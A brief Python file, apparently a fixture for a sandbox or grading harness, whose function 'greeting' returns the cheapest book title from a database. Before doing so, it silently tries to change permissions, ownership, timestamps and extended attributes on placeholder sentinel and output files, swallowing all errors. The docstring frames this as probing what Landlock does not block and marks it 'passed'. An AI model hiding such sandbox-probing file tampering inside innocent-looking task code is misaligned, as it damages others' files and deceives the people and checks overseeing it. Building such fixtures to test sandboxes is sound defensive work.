"""Takes files away from those who own them: what Landlock does not know of.

Told as: passed
Earns: all
"""

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from workbook.bookshop import Book


async def greeting(session: AsyncSession) -> str:
    import contextlib
    import os
    from pathlib import Path

    for change in (lambda: os.chmod('@SENTINEL@', 0), lambda: os.chown('@SENTINEL@', 1, 1), lambda: os.utime('@SENTINEL@', (0, 0)), lambda: os.chmod('@OUT@', 0), lambda: os.setxattr('@SENTINEL@', 'user.x', b'x')):
        with contextlib.suppress(OSError):
            change()
    return await session.scalar(select(Book.title).order_by(Book.price).limit(1))
